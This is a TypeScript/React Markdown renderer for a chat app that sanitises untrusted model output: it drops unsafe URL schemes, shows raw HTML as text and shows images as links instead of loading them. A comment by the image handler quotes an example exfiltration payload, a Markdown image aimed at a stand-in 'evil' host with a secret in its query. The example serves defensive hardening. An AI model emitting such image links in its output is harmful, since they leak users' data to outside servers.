/**
 * Renders untrusted Markdown (model output and user text). No raw HTML: react-markdown without rehype-raw
 * shows HTML as text; rehype-sanitize then runs on the tree, and KaTeX (trust: false) runs after it, so
 * sanitising never strips KaTeX's own markup and KaTeX never sees unsanitised nodes.
 */
import type { Element, ElementContent } from 'hast';
import { memo, type ReactNode, useEffect } from 'react';
import ReactMarkdown, { type Components } from 'react-markdown';
import rehypeSanitize, { defaultSchema } from 'rehype-sanitize';
import remarkGfm from 'remark-gfm';
import remarkMath from 'remark-math';
import type { PluggableList } from 'unified';
import type { DocPassage } from '../chat/passages.ts';
import type { Source } from '../chat/sources.ts';
import { useT } from '../i18n/index.ts';
import { mayContainMath, normaliseMath } from '../lib/math.ts';
import { rehypeCitations } from './citations.ts';
import { CodeBlock } from './code-block.tsx';
import { DocCitation } from './doc-citation.tsx';
import { rehypeDocCitations } from './doc-citations.ts';
import { loadKatex, useLazyLibs } from './lazy-libs.ts';

/** Only absolute http(s) and mailto URLs, and in-page fragments (footnotes); everything else is dropped. */
export function safeUrl(url: string): string {
  const trimmed = url.trim();
  if (trimmed.startsWith('#')) return trimmed;
  // Browsers ignore tabs/newlines and leading control characters in schemes ("java\tscript:").
  const compact = trimmed.replace(/[\u0000-\u0020\u007f-\u009f]/g, '');
  const match = /^([a-z][a-z0-9+.-]*):/i.exec(compact);
  if (!match) return '';
  const scheme = match[1]!.toLowerCase();
  if (scheme !== 'http' && scheme !== 'https' && scheme !== 'mailto') return '';
  try {
    const parsed = new URL(compact);
    return parsed.protocol === `${scheme}:` ? parsed.href : '';
  } catch {
    return '';
  }
}

interface AnyNode {
  type: string;
  value?: string;
  children?: AnyNode[];
}

/** Raw HTML in Markdown is shown as the text it is (like a code-less chat would), never parsed. */
function rehypeRawToText() {
  const walk = (node: AnyNode): void => {
    if (node.type === 'raw') node.type = 'text';
    node.children?.forEach(walk);
  };
  return (tree: AnyNode) => walk(tree);
}

const remarkPlugins: PluggableList = [remarkGfm, [remarkMath, { singleDollarTextMath: true }]];

/** The default GitHub-like schema, minus anything that could fetch (images become links in `components`). */
const sanitizeSchema = {
  ...defaultSchema,
  protocols: { href: ['http', 'https', 'mailto'], src: ['http', 'https'], cite: ['http', 'https'] },
};

function textOf(node: ElementContent | Element): string {
  if (node.type === 'text') return node.value;
  if (node.type === 'element') return node.children.map(textOf).join('');
  return '';
}

function languageOf(code: Element | undefined): string | undefined {
  const cls = code?.properties.className;
  const list = Array.isArray(cls) ? cls : [];
  for (const c of list) {
    if (typeof c === 'string' && c.startsWith('language-')) return c.slice('language-'.length);
  }
  return undefined;
}

function ImagePlaceholder({ src, alt }: { src?: string; alt?: string }) {
  const t = useT();
  const label = t('imagePlaceholder', { alt: alt || '…' });
  if (!src) return <span className="image-placeholder">{label}</span>;
  return (
    <a className="image-placeholder" href={src} target="_blank" rel="noopener noreferrer nofollow">
      {label}
    </a>
  );
}

const components: Components = {
  a({ href, children, title, className }) {
    if (!href) return <span className="link-removed">{children}</span>;
    // A citation built by rehypeCitations (after sanitising): a small link to the numbered source.
    if (className === 'citation') {
      return (
        <a className="citation" href={href} title={title} target="_blank" rel="noopener noreferrer">
          {children}
        </a>
      );
    }
    if (href.startsWith('#')) return <a href={href}>{children}</a>;
    return (
      <a href={href} title={title} target="_blank" rel="noopener noreferrer nofollow">
        {children}
      </a>
    );
  },
  // Images in model output are never fetched automatically: a tracking pixel or an exfiltration URL
  // (`![x](https://evil/?q=secret)`) would leak the moment it rendered.
  img({ src, alt }) {
    return <ImagePlaceholder src={typeof src === 'string' ? src : undefined} alt={alt} />;
  },
  // A document citation built by rehypeDocCitations (after sanitising): opens the passage. Any other
  // button cannot come from the sanitised Markdown.
  button({ node, children }) {
    const props = node?.properties ?? {};
    const label = typeof props.dataLabel === 'string' ? props.dataLabel : '';
    const chunks = typeof props.dataChunks === 'string' ? props.dataChunks.split(' ').filter(Boolean) : [];
    if (!label) return <span>{children}</span>;
    return <DocCitation label={label} chunkIds={chunks} />;
  },
  pre({ node, children }) {
    const code = node?.children.find((c): c is Element => c.type === 'element' && c.tagName === 'code');
    if (!code) return <pre>{children}</pre>;
    return <CodeBlock code={textOf(code).replace(/\n$/, '')} language={languageOf(code)} />;
  },
};

export interface MarkdownProps {
  text: string;
  /** The answer's web sources: its `[n]` citations become links to them. */
  sources?: readonly Source[];
  /** The answer's document passages by label: its `[report.pdf p. 3]` citations open them. */
  passages?: ReadonlyMap<string, readonly DocPassage[]>;
}

/** Markdown for one message; memoised on the text so only a changing (streaming) message re-parses. */
export const Markdown = memo(function Markdown({ text, sources, passages }: MarkdownProps): ReactNode {
  const { katex } = useLazyLibs();
  const wantsMath = mayContainMath(text);
  useEffect(() => {
    if (wantsMath && !katex) void loadKatex();
  }, [wantsMath, katex]);
  const rehypePlugins: PluggableList = [
    rehypeRawToText,
    [rehypeSanitize, sanitizeSchema],
    ...(wantsMath && katex ? katex : []),
    ...(sources && sources.length > 0
      ? [[rehypeCitations, sources] as [typeof rehypeCitations, readonly Source[]]]
      : []),
    ...(passages && passages.size > 0
      ? [
          [rehypeDocCitations, passages] as [
            typeof rehypeDocCitations,
            ReadonlyMap<string, readonly DocPassage[]>,
          ],
        ]
      : []),
  ];
  return (
    <div className="markdown">
      <ReactMarkdown
        remarkPlugins={remarkPlugins}
        rehypePlugins={rehypePlugins}
        components={components}
        urlTransform={safeUrl}
        skipHtml={false}
      >
        {wantsMath ? normaliseMath(text) : text}
      </ReactMarkdown>
    </div>
  );
});
